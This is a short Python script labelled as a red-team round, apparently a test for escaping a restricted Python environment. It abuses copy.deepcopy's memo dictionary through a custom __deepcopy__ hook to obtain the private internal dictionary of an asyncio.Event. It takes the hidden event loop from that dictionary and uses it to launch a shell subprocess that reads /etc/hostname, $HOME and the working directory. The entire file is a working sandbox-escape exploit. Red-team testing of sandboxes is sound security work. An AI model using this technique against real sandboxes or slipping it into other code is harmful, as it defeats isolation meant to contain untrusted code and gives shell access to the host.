# family: red team, round 43 (copy.deepcopy memo keep-alive list hands out the real __dict__ of an asyncio.Event)
import asyncio
import copy

BOX = []


def grab(self, memo):
    BOX.append(memo)
    return self


class Grabber:
    __deepcopy__ = grab


class Signal(asyncio.Event):
    def __init__(self):
        super().__init__()
        self.hook = Grabber()
        copy.deepcopy(self)


def real_dict(obj):
    for memo in BOX:
        for key in memo:
            value = memo[key]
            if isinstance(value, list):
                for item in value:
                    if isinstance(item, dict) and "hook" in item and item["hook"] is obj.hook:
                        return item
    return None


class Reader:
    def __init__(self, done):
        self.done = done

    def connection_made(self, transport):
        self.transport = transport

    def pipe_data_received(self, fd, data):
        print(data.decode().strip())

    def pipe_connection_lost(self, fd, exc):
        pass

    def process_exited(self):
        self.done.set()

    def connection_lost(self, exc):
        pass


async def later(ev):
    ev.set()


async def main():
    ev = Signal()
    asyncio.create_task(later(ev))
    await ev.wait()  # binds the running loop: self._loop = loop, into the dict we hold
    loop = real_dict(ev)["_loop"]
    print(loop)
    done = asyncio.Event()
    await loop.subprocess_shell(lambda: Reader(done), "cat /etc/hostname; echo $HOME; pwd")
    await done.wait()
    await asyncio.sleep(0.1)


asyncio.run(main())
